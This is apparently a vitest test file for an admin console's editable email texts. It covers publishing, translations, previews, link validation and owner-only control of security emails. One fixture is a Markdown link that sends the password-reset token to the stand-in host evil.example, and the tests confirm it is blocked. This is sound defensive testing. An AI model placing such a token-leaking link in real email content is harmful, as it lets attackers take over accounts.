import { eq } from "drizzle-orm";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { createTestAdmin } from "../../../../tests/harness/admin.ts";
import { createTestDatabase } from "../../../../tests/harness/database.ts";
import { editableEmails, emails } from "../../../composition/emails.ts";
import type { Actor } from "../../../console/operations/actor.ts";
import type { Locale } from "../../../contract/locale.ts";
import { describeRefusal } from "../../../contract/refusals/refusals.ts";
import { themeColors } from "../../../contract/theme.ts";
import type { AppError } from "../../../platform/errors.ts";
import { createLog } from "../../../platform/log.ts";
import { createMailDelivery } from "../../../platform/mail/deliver-mail.ts";
import type { OutgoingMail } from "../../../platform/mail/ports.ts";
import { mail } from "../../../platform/mail/tables.ts";
import { emailText } from "../../content/server/tables.ts";
import { exportFiles } from "../../content-files/operations/export-content.ts";
import { verifyEmail } from "../../identity/server/emails.ts";
import { user } from "../../identity/server/tables.ts";
import { addMissingEmails, readStoredText } from "../server/stored-text.ts";

let database: Awaited<ReturnType<typeof createTestDatabase>>;
let admin: ReturnType<typeof createTestAdmin>;
beforeAll(async () => {
  database = await createTestDatabase();
  admin = createTestAdmin(database.db);
  await addMissingEmails(database.db);
});
afterAll(() => database.close());
afterEach(async () => {
  await database.db.delete(mail);
  await database.db
    .update(emailText)
    .set({ subject: null, preheader: null, heading: null, body: null, reason: null });
});

const ann: Actor = {
  ...{ id: "ann", name: "Ann", email: "ann@northwick.example", role: "owner" },
  ...{ emailVerified: true, twoFactorEnabled: false },
};
const id = "verify-email";
const original = verifyEmail.text;

async function publish(changes: Record<string, string>, text: string = id) {
  const { revision, data } = await admin.getRecord(ann, { type: "email", id: text });
  const saved = await admin.saveRecord(ann, {
    ...{ type: "email", id: text, revision },
    data: { ...data, ...changes },
  });
  return admin.publishRecord(ann, { type: "email", id: text, revision: saved.revision });
}

const logged: object[] = [];
/** The email as its reader gets it. */
async function deliver(
  template: "verify-email" | "email-test" = id,
  props: Record<string, unknown> = {
    name: "Bo Li",
    link: "https://northwick.example/v?token=1",
    expiresInHours: 24,
  },
  locale: Locale = "en",
) {
  const sent: OutgoingMail[] = [];
  const log = createLog("silent");
  log.warn = (fields: object) => logged.push(fields);
  const delivery = createMailDelivery({
    emails,
    readText: readStoredText,
    readLanguage: async () => locale,
    db: database.db,
    port: { mode: "outbox", send: async (one) => void sent.push(one) },
    brand: async () => ({
      ...{ name: "Northwick", origin: "https://northwick.example", address: "", email: "" },
      colors: themeColors,
      clock: { time_zone: "UTC", clock: "12-hour" as const },
    }),
    log,
  });
  const [row] = await database.db
    .insert(mail)
    .values({ template, recipient: "bo@example.com", props, dedupeKey: crypto.randomUUID() })
    .returning();
  await delivery.deliver(String(row?.id));
  return sent[0];
}
const rowOf = async () =>
  (await database.db.select().from(emailText).where(eq(emailText.id, id)))[0];

test("the console lists every email with the text that it has", async () => {
  const { items } = await admin.listRecords(ann, { type: "email", limit: 100 });
  expect(items.map((item) => item.id).sort()).toEqual([...editableEmails.keys()].sort());
  expect(items.find((item) => item.id === id)).toMatchObject({
    ...{ title: "Confirm email address", state: "published" },
    fields: { subject: original.subject },
  });
});

const isEdited = async () =>
  (await admin.listRecords(ann, { type: "email", limit: 100 })).items.find((one) => one.id === id)
    ?.edited;

test("an email says what was published, and the original again when that is put back", async () => {
  expect((await deliver())?.subject).toBe("Confirm your email address for Northwick");
  await publish({ subject: "One more step, {{company}} awaits" });
  expect((await deliver())?.subject).toBe("One more step, Northwick awaits");
  expect(await isEdited()).toBe(true);
  // Only what differs is stored: a new version may improve the rest.
  expect(await rowOf()).toMatchObject({ subject: "One more step, {{company}} awaits", body: null });
  const files = await exportFiles(database.db);
  expect([...files.keys()].filter((name) => name.startsWith("emails/"))).toEqual([
    "emails/verify-email.yaml",
  ]);
  expect(files.get("emails/verify-email.yaml")).toBe(
    "email: verify-email\nsubject: One more step, {{company}} awaits\n",
  );
  await publish({ ...original });
  expect((await rowOf())?.subject).toBeNull();
  expect(await isEdited()).toBe(false);
  expect((await deliver())?.subject).toBe("Confirm your email address for Northwick");
});

test("the Spanish text is a text of its own: its readers get it, and no one else", async () => {
  const spanish = () => deliver(id, undefined, "es");
  const before = (await spanish())?.subject;
  expect(before).toBe(verifyEmail.es?.subject.replace("{{company}}", "Northwick"));
  await publish({ subject: "Un paso más, {{company}} te espera" }, `${id}-es`);
  expect((await spanish())?.subject).toBe("Un paso más, Northwick te espera");
  expect((await deliver())?.subject).toBe("Confirm your email address for Northwick");
  await publish({ subject: "One more step" });
  expect((await spanish())?.subject).toBe("Un paso más, Northwick te espera");

  const { original: text, placeholders } = await admin.describeEmail(ann, { id: `${id}-es` });
  expect(text).toEqual(verifyEmail.es);
  expect(placeholders.find(({ name }) => name === "greeting")?.sample).toMatch(/^Hola/);
  const { html } = await admin.previewEmail(ann, { id: `${id}-es`, words: text });
  expect(html).toContain('lang="es"');
  await expect(publish({ body: "Sin enlace." }, `${id}-es`)).rejects.toMatchObject({
    reason: "not_ready_to_publish",
  });
});

test("a draft changes no email, and nobody can rename one", async () => {
  const { revision, data } = await admin.getRecord(ann, { type: "email", id });
  const { data: saved } = await admin.saveRecord(ann, {
    ...{ type: "email", id, revision },
    data: { ...data, id: "welcome", name: "Other", heading: "New" },
  });
  expect(saved).toMatchObject({ id, name: "Confirm email address", heading: "New" });
  expect((await deliver())?.text).toContain("Confirm your email address");
  const { revision: newest } = await admin.getRecord(ann, { type: "email", id });
  await admin.discardChanges(ann, { type: "email", id, revision: newest });
});

test("a text without its link, or with a link that leads nowhere, isn’t published", async () => {
  const problem = await publish({ body: "Hi. Read [this](/nowhere)." }).catch(
    (error: AppError) => describeRefusal(error).fields,
  );
  expect(problem).toEqual({
    body: [
      expect.stringContaining("/nowhere leads nowhere"),
      expect.stringContaining("needs [Label]({{confirm-link}})"),
    ],
  });
});

test("a stored text that no longer fits is left out and logged, and the email goes out", async () => {
  await database.db
    .update(emailText)
    .set({ subject: "Hi", body: "{{gone}} and no link" })
    .where(eq(emailText.id, id));
  const sent = await deliver();
  expect(sent?.subject).toBe("Confirm your email address for Northwick");
  expect(sent?.text).toContain("https://northwick.example/v?token=1");
  expect(logged).toEqual([{ template: id, faults: ["body", "body"] }]);
});

test("a preview shows made-up data, and a test email goes to the person who asks for it", async () => {
  const words = { ...original, subject: "Try {{company}}", body: `Hi\n\n${original.body}` };
  const { subject, html } = await admin.previewEmail(ann, { id, words });
  expect(subject).toMatch(/^Try/);
  expect(html).toContain("https://northwick.example/verify-email?token=");
  expect(await admin.sendTestEmail(ann, { id, words })).toEqual({ to: ann.email });
  const [row] = await database.db.select().from(mail);
  expect(row).toMatchObject({ recipient: ann.email, template: "email-test" });
  const sent = await deliver("email-test", row?.props);
  expect(sent?.subject).toBe("[Test] Try Northwick");
  await expect(
    admin.sendTestEmail(ann, { id, words: { ...words, body: "No link" } }),
  ).rejects.toMatchObject({ reason: "fields_invalid" });
});

describe("a security email’s text", () => {
  const editor: Actor = { ...ann, id: "ed", name: "Ed", role: "editor" };
  const target = { type: "email" as const, id: "password-reset" };
  const evil = "[Reset](https://evil.example/r?u={{reset-link}})";
  const record = () => admin.getRecord(ann, target);

  test("is the owners’ alone, by every way to change it", async () => {
    const { revision, data } = await record();
    const others = { ...target, revision, at: null };
    for (const tried of [
      () => admin.saveRecord(editor, { ...others, data: { ...data, subject: "Hi" } }),
      () => admin.publishRecord(editor, others),
      () => admin.discardChanges(editor, others),
      () => admin.restoreVersion(editor, { ...others, version: 1 }),
      () => admin.unpublishRecord(editor, others),
      () => admin.scheduleRecord(editor, { ...others, action: "publish" }),
      () => admin.deleteRecord(editor, others),
      async () => {
        const welcome = await admin.getRecord(editor, { type: "email", id: "welcome" });
        return admin.publishRecord(editor, { ...welcome, together: [others] });
      },
    ]) {
      await expect(tried()).rejects.toMatchObject({ reason: "security_text_owners" });
    }
    const { ownersOnly } = await admin.describeEmail(editor, { id: "password-reset" });
    expect(ownersOnly).toBe(true);
    expect((await admin.describeEmail(editor, { id: "welcome" })).ownersOnly).toBe(false);
  });

  test("that sends the token elsewhere isn’t published, even by an owner", async () => {
    const { revision, data } = await record();
    const saved = await admin.saveRecord(ann, {
      ...target,
      revision,
      data: { ...data, body: evil },
    });
    await expect(
      admin.publishRecord(ann, { ...target, revision: saved.revision }),
    ).rejects.toMatchObject({ reason: "not_ready_to_publish" });
    await admin.discardChanges(ann, { ...target, revision: saved.revision });
  });

  test("that was stored before the rule gives way to the original", async () => {
    await database.db.update(emailText).set({ body: evil }).where(eq(emailText.id, id));
    const sent = await deliver();
    expect(sent?.html).not.toContain("evil.example");
    expect(sent?.html).toContain("https://northwick.example/v?token=1");
  });

  test("tells every owner when it changes", async () => {
    await database.db
      .insert(user)
      .values({ id: "ann", name: "Ann", email: ann.email, role: "owner" });
    await publish({ ...original, subject: "One more step" });
    const [told] = await database.db
      .select()
      .from(mail)
      .where(eq(mail.template, "console-changed"));
    expect(told).toMatchObject({
      recipient: ann.email,
      props: { who: "Ann", change: "changed the text of the email “Confirm email address”" },
    });
  });
});
